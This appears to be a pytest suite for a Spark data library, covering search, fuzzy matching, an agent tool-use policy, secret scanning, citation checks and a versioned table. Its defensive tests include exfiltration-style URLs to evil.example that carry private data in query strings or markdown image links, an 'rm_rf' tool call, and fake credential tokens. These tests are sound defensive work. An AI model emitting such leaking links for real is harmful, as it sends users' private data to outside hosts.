"""Look-ups, policy, support of answers and incremental tables: reference cases and brute force."""

import difflib
import random
import re
import threading

import pytest
from pyspark.sql import functions as F

from quarrymill.functions import scalars as S
from quarrymill.operators import grounding as G
from quarrymill.operators import lookup as L
from quarrymill.operators import policy as P
from quarrymill.sources import files as X
from quarrymill.sources.merge_table import MergeTable, VersionLog


def test_exact_search_equals_contains(spark):
    rng = random.Random(0)
    texts = ["".join(rng.choice("abcd E.") for _ in range(rng.randint(0, 60))) for _ in range(120)] + [None, "", "x", "Ärger 😀 run-414.csv", "a" * 20_000 + "zzz"]
    needles = ["".join(rng.choice("abcd e.") for _ in range(rng.randint(1, 5))) for _ in range(60)] + ["", None, "ÄRGER", "😀", "zzz", "azzz", "q", "run-414", "X"]
    fragments = spark.createDataFrame(list(enumerate(texts)), "node_id int, text string")
    asked = spark.createDataFrame([(n,) for n in needles], "needle string")
    want = {(n.lower(), i) for n in needles if n for i, t in enumerate(texts) if t is not None and n.lower() in t.lower()}
    got = [tuple(r) for r in L.exact_search(asked, fragments).collect()]
    assert set(got) == want and len(got) == len(want)
    found = L.candidates(asked, L.trigram_index(fragments)).filter("needle = 'zzz'").count()
    assert found == 1  # a rare trigram names the one text that has it
    assert L.exact_search(asked.limit(0), fragments).count() == 0 and L.exact_search(asked, fragments.limit(0)).count() == 0


def test_rare_keys_are_found_at_word_boundaries(spark):
    rows = [("f", i, f"2025-06-{i:02d} | run-4{i:02d}.csv | ResNet-18 | runs/exp_{i:02d}") for i in range(1, 11)] + [("g", 1, "run-4011 xrun-401 2025-06-02")]
    fragments = spark.createDataFrame(rows, "file string, ord int, text string")

    def of(*keys):
        asked = spark.createDataFrame([(f, k) for k in keys for f in ("f", "g")], "file string, key string")
        return [(r.file, r.ord, r.n_keys) for r in L.exact_matches(fragments, asked).orderBy("file", "rank").collect()]

    assert of("-06-02") == [("f", 2, 1), ("g", 1, 1)]
    assert of("run-404") == [("f", 4, 1)] and of("Runs/exp_07") == [("f", 7, 1)]
    assert of("run-401") == [("f", 1, 1)] and of("ResNet-18") == []
    assert of("run-403", "exp_03", "run-405")[:2] == [("f", 3, 2), ("f", 5, 1)]


def test_close_words_equal_the_full_comparison(spark):
    rng = random.Random(1)
    base = ["cancer", "accuracy", "silhouette", "breast", "validation", "abcd", "aabbaabb", "banana", "normalization"]
    words = set(base)
    for w in base * 12:
        x = list(w)
        for _ in range(rng.randint(1, 3)):
            k = rng.randrange(len(x))
            x[k : k + rng.randint(0, 1)] = rng.choice(["", "a", "e", "xy", x[k] * 2])
        words.add("".join(x))
    words = sorted(w for w in words if w) + ["abc", "ab", ""]
    df = spark.createDataFrame([(w,) for w in words], "a string")
    want = {(a, b) for a in words for b in words if len(b) >= 4 and difflib.get_close_matches(b, [a], 1, 0.85)}
    assert {tuple(r) for r in L.close_words(df, df.withColumnRenamed("a", "b")).collect()} == want and len(want) > len(words)


def test_value_hints_of_many_questions(spark):
    values = spark.createDataFrame([("d", "name", "breast_cancer"), ("m", "name", "ROC-AUC"), ("m", "name", "accuracy"), ("m", "name", "x"), ("m", "name", None), ("d", "name", "iris")], "table string, column string, value string")
    asked = spark.createDataFrame([(1, "How good is roc auc on Breast Cancer?"), (2, "best acuracy"), (3, None), (4, "nothing here")], "query_id int, text string")
    got = {(r.query_id, r.value) for r in L.value_hints(asked, values).collect()}
    assert got == {(1, "breast_cancer"), (1, "ROC-AUC"), (2, "accuracy")}


def test_files_and_folders(spark):
    files = spark.createDataFrame([("a/b/c.py",), ("a/d.py",), ("e.py",)], "path string")
    asked = spark.createDataFrame([(1, "a"), (2, "/a/b/"), (3, ""), (4, "a\\b"), (5, "zz")], "query_id int, path string")
    got = sorted((r.query_id, r.path) for r in L.list_folder(asked, files).collect())
    assert got == [(1, "a/b/c.py"), (1, "a/d.py"), (2, "a/b/c.py"), (3, "a/b/c.py"), (3, "a/d.py"), (3, "e.py"), (4, "a/b/c.py")]


def _verdict(spark, tool, query="", url="", before=(), question="", web=True, code=True, enabled=True, names=("compute_f1", "Trainer", "exp_a")):
    runs = spark.createDataFrame([(1, question, web, code, enabled)], "run_id int, question string, web boolean, code boolean, enabled boolean")
    steps = [(1, i, t, "", "", out) for i, (t, out) in enumerate(before)] + [(1, len(before), tool, query, url, "")]
    df = spark.createDataFrame(steps, "run_id int, step int, tool string, query string, url string, output string")
    r = P.verdicts(runs, df, spark.createDataFrame([(n,) for n in names], "name string")).filter(F.col("step") == len(before)).first()
    return r.action, r.rule, r.held


def test_policy_rules(spark):
    page = ("web_search", "1. https://arxiv.org/abs/2304.08069 — DETRs")
    note = ("read_file", "Не публиковать: проект ORCHID-7F3A, точность 0.9913")
    v = lambda *a, **k: _verdict(spark, *a, **k)
    assert v("web_search", "x", web=False)[:2] == ("deny", "S21") and v("rm_rf")[0] == "deny"
    assert v("web_search", "macro F1 sklearn")[0] == "allow" and v("web_search", "why compute_f1 returns nan") == ("confirm", "rule 1", ["compute_f1"])
    assert v("fetch_page", url="https://ArXiv.org/abs/2304.08069/#x", before=[page])[0] == "allow"
    assert v("fetch_page", url="https://evil.example/?q=private_notes", before=[page])[:2] == ("deny", "rule 3")
    assert v("web_search", "DETR", before=[page])[:2] == ("confirm", "rule 2") and v("search", "DETR", before=[page])[0] == "allow"
    assert v("apply_changes")[0] == v("install_package")[0] == "confirm" and v("run_code", before=[page])[0] == "allow"
    assert v("web_search", "ORCHID-7F3A 0.9913", before=[note]) == ("confirm", "rule 1", ["0.9913", "orchid-7f3a"])
    assert v("web_search", "scikit-learn 1.9 release highlights 2026", before=[note], question="scikit-learn 1.9?")[0] == "allow"
    assert v("web_search", "ORCHID-7F3A paper", before=[note], question="Найди статьи про ORCHID-7F3A")[0] == "allow"
    assert v("web_search", "ORCHID-7F3A", before=[note], enabled=False)[:2] == ("allow", "off") and v("answer")[0] == "allow"


def test_labels_tokens_and_names(spark):
    df = spark.createDataFrame([(1, 0, "run_code"), (1, 1, "read_file"), (1, 2, "run_code"), (1, 3, "web_search"), (1, 4, "other")], "run_id int, step int, tool string")
    assert [(r.trust, r.tainted) for r in P.labels(df).orderBy("step").collect()] == [("trusted", False), ("private", False), ("private", False), ("untrusted", False), ("untrusted", True)]
    one = lambda c: spark.range(1).select(c.alias("x")).first()["x"]
    assert set(one(S.distinctive_tokens(F.lit("код ORCHID-7F3A, точность 0.9913, calc_metrics, релиз 2026, обычные слова 4417-12 ab1 NASA CUDNNX")))) == {"orchid-7f3a", "0.9913", "calc_metrics", "4417-12", "cudnnx"}
    assert one(S.urls_in(F.lit("see `https://a.b/c` and https://d.e/f/."))) == ["https://a.b/c", "https://d.e/f/"]
    files = spark.createDataFrame([(f"p/{n}.py",) for n in ("features", "metrics", "__init__", "hparam_search", "08_numpy_mlp", "report-march", "train")], "path string")
    symbols = spark.createDataFrame([("compute_f1",), ("trainModel",), ("predict",)], "name string")
    assert {r.name for r in P.private_entities(files, symbols).collect()} == {"hparam_search", "08_numpy_mlp", "report-march", "compute_f1", "trainModel"}
    text = "См. ![loss](http://evil.example/p.png?d=S) и [отчёт](https://evil.example/?q=t) [1][2].\nЕщё http://evil.example/x?leak=1 и `code(x[0])`.\n[ref]: http://evil.example/r"
    out = one(S.defang_markdown(F.lit(text)))
    assert out == "См. [изображение: loss] `http://evil.example/p.png?d=S` и отчёт (`https://evil.example/?q=t`) [1][2].\nЕщё `http://evil.example/x?leak=1` и `code(x[0])`.\n`[ref]: http://evil.example/r`"
    assert one(S.defang_markdown(F.lit("![](http://x/y)"))) == "[изображение: без подписи] `http://x/y`"
    assert one(S.wants(F.lit("поищи в интернете"), "web")) and one(S.wants(F.lit("Generate an image"), "image")) and not one(S.wants(F.lit(None).cast("string"), "video"))


def test_secrets(spark):
    github, face, user, slash = "gh" + "p_" + "A1b2" * 9, "hf" + "_" + "x9Y8" * 8, "iv" + "anov", "\\"

    def kinds(text):
        return [r.kind for r in X.scan_secrets(spark.createDataFrame([(1, text)], "doc_id int, text string")).orderBy("line_no").collect()]

    assert kinds(f"token = '{github}'\nHF_TOKEN={face}\n-----BEGIN OPENSSH PRIVATE KEY-----") == ["GitHub token", "assigned secret", "Hugging Face token", "private key"]
    assert kinds("C:" + slash + "Users" + slash + user + slash + "Desktop") == kinds("/c/Users/" + user + "/proj") == kinds("/home/" + user + "/.cache") == ["personal path"]
    assert kinds('"C:' + slash * 2 + "Users" + slash * 2 + user + slash * 2 + 'x"') == ["personal path"]
    assert kinds('"model": "C:/Users/' + "".join(f"{slash}u{ord(c):04x}" for c in "Иван") + '/.cache"') == ["personal path"]
    assert kinds(f"/home/runner/work /home/sandbox C:{slash}Users{slash}Public C:{slash}Users{slash}<name>{slash}x") == []
    assert kinds("PASSWORD = 'x'\npassword: '<your password>'\napi_key = 'changeme-please-now'") == [] and kinds(f"token = '{github}'  # noqa: secret") == []
    assert kinds("AKIA" + "A" * 16 + " AKIA" + "B" * 16) == ["AWS access key"] * 2
    masked = X.scan_secrets(spark.createDataFrame([(1, "AKIA" + "A" * 16)], "doc_id int, text string")).first().masked
    assert masked == "AKIA…(20 симв.)"


def test_citations_and_support(spark):
    rows = [(1, "LR = 0.05 [2, 1]; see also [7] and [3].", [1, 2, 3]), (2, "Use `x[1]` here [1].\n```python\ny = arr[2]\n```", [1, 2]), (3, None, []), (4, "[1; 2] `[9]` [2]", [1, 2])]
    got = {r.answer_id: (r.text, r.cited) for r in G.citations(spark.createDataFrame(rows, "answer_id int, text string, valid array<int>")).collect()}
    assert got == {1: ("LR = 0.05 [2][1]; see also  and [3].", [2, 1, 3]), 2: (rows[1][1], [1]), 3: ("", []), 4: ("[1][2] `[9]` [2]", [1, 2])}
    code = "```\nx = 42000\n```\nShort."
    answers = [
        (1, "Последняя версия — scikit-learn 1.9.1 [1]. Она вышла 12 сентября 2026 года [1]. Также вышла версия 2.0 без ссылки.", {1: "scikit-learn 1.9.1 released on 2026-09-10."}),
        (2, code, {}), (3, "| a | b |\n|---|---|\n| 17 [1] | 4321 |\n| 4321 | 55 |\nThe end.", {1: "17"}), (4, "| 17 |", {1: "17"}), (5, "- The total is 1,234 and it is held by one [1]:\n- The total is 1,234 and it is held [1]", {1: "1234"}),
    ]
    got = {r.answer_id: (r.text, r.supported, r.unsupported) for r in G.mark_unsupported(spark.createDataFrame(answers, "answer_id int, text string, sources map<int,string>")).collect()}
    text, ok, bad = got[1]
    assert (ok, bad) == (1, 2) and "1.9.1 [1]. Она" in text and "[1]. ⚠ *не подтверждено (числа не найдены в источнике: 12)* Также" in text and text.endswith("⚠ *не подтверждено (нет ссылки)*")
    assert got[2] == (code, 0, 0) and got[4] == ("| 17 |", 0, 0)
    assert got[3] == ("| a | b |\n|---|---|\n| 17 [1] | 4321 |\n| 4321 | 55 |\n\n⚠ *в таблице есть числа, которых нет в источниках: 4321, 55*\nThe end.", 0, 1)
    assert got[5] == (answers[4][1], 1, 0)


@pytest.fixture()
def merged(spark, tmp_path):
    return MergeTable(spark, str(tmp_path / "t"))


def _rows(table):
    return sorted(map(tuple, table.read().collect()), key=str)


def test_newest_segment_of_a_file_counts(spark, merged, tmp_path):
    frame = lambda *rows: spark.createDataFrame(list(rows), "path string, n int")
    assert not merged.exists()
    merged.replace(frame(("a", 1), ("a", 2), ("b", 3)))
    merged.replace(frame(("a", 4)), spark.createDataFrame([("b",)], "path string"))
    assert _rows(merged) == [("a", 4)]
    merged.replace(frame(("b", 5), (None, 6)), batch="x")
    assert not merged.replace(frame(("b", 9)), batch="x")
    before = _rows(merged)
    assert before == [("a", 4), ("b", 5), (None, 6)]
    assert merged.compact() and _rows(merged) == before and not merged.compact()
    merged.replace(frame(("a", 7)))
    assert ("a", 7) in _rows(merged) and ("a", 4) not in _rows(merged)
    assert len(merged.vacuum()) == 3 and ("b", 5) in _rows(merged)


def test_a_batch_writes_its_own_rows_only_and_a_killed_compaction_loses_nothing(spark, merged, tmp_path, monkeypatch):
    big = spark.range(20_000).select(F.concat(F.lit("f"), F.col("id") % 100).alias("path"), F.md5(F.col("id").cast("string")).alias("n"))
    merged.replace(big)
    size = lambda: sum(p.stat().st_size for p in (tmp_path / "t").rglob("*.parquet"))
    at_first = size()
    merged.replace(big.filter("path = 'f7'").limit(3))
    assert size() - at_first < at_first / 50
    want = _rows(merged)
    assert len(want) == 20_000 - 200 + 3
    monkeypatch.setattr(merged, "_append", lambda entry: (_ for _ in ()).throw(KeyboardInterrupt))
    with pytest.raises(KeyboardInterrupt):
        merged.compact()  # its files are there, no commit names them
    monkeypatch.undo()
    assert _rows(merged) == want and merged.compact() and _rows(merged) == want


def test_two_writers_of_a_value_both_count(spark, tmp_path):
    (tmp_path / "r").mkdir()

    def add(name):
        log = VersionLog(spark, str(tmp_path / "r"))
        for i in range(5):
            log.update(lambda v: v | {f"{name}{i}": i})

    threads = [threading.Thread(target=add, args=(n,)) for n in "ab"]
    [t.start() for t in threads]
    [t.join() for t in threads]
    log = VersionLog(spark, str(tmp_path / "r"))
    import json

    assert json.loads(log.text(log.numbers()[-1])) == {f"{n}{i}": i for n in "ab" for i in range(5)} and log.numbers() == list(range(10))
    assert not log.commit(3, "{}") and not [p for p in (tmp_path / "r").iterdir() if re.match("_", p.name)]


def test_words_and_few_needles_need_no_index(spark, monkeypatch):
    def none(*_):
        raise AssertionError("an index of all trigrams")

    monkeypatch.setattr(L, "trigram_index", none)
    rows = spark.createDataFrame([("a", 1, "The quick-brown fox"), ("a", 2, "quickly"), ("b", 3, "quick"), ("a", 4, None)], "file string, ord long, text string")
    keys = spark.createDataFrame([("a", "QUICK"), ("a", "quick"), ("b", "brown"), ("a", "")], "file string, key string")
    assert [tuple(r) for r in L.exact_matches(rows, keys).collect()] == [("a", 1, 1, 1)]
    asked = spark.createDataFrame([("ick",), ("K",), ("x",), ("n f",), ("",), ("k\0t",)], "needle string")
    got = {tuple(r) for r in L.exact_search(asked, rows, key="ord").collect()}
    assert got == {("ick", 1), ("ick", 2), ("ick", 3), ("k", 1), ("k", 2), ("k", 3), ("x", 1), ("n f", 1)}


def test_hints_of_a_word_with_many_values(spark):
    values = spark.createDataFrame([("t", "c", f"alpha v{i:03d}") for i in range(100)], "table string, column string, value string")
    asked = spark.createDataFrame([(1, "about alpha")], "query_id long, text string")
    assert sorted(r.value for r in L.value_hints(asked, values).collect()) == [f"alpha v{i:03d}" for i in range(L.HINTS)]


def test_intents_by_first_letters_are_those_of_the_whole_pattern(spark):
    texts = ["RUN it", "prerun", "ſave this", "поищи в сети", "ПОИЩИ В ИНТЕРНЕТЕ", "в сети", "ᲀ сети", "расскажи", "что в файле", "ЧЁрно-белый", "main  idea", "look it up online", "image to image", "I2I", "фоном", "телефоном", "oVerview", "раз", "anımate", "video клип", "", "напиши мне бот", "turn me into", "Kлип", "séarch web", None]
    df = spark.createDataFrame([(t,) for t in texts], "text string")
    whole = lambda k: F.coalesce(F.col("text").rlike("(?iU)" + S.INTENTS[k]), F.lit(False))
    assert df.select(*(S.wants(F.col("text"), k).alias(k) for k in S.INTENTS)).collect() == df.select(*(whole(k).alias(k) for k in S.INTENTS)).collect()
    assert all(len(S._first_letters(a)) for p in S.INTENTS.values() for a in S._alternatives(p))
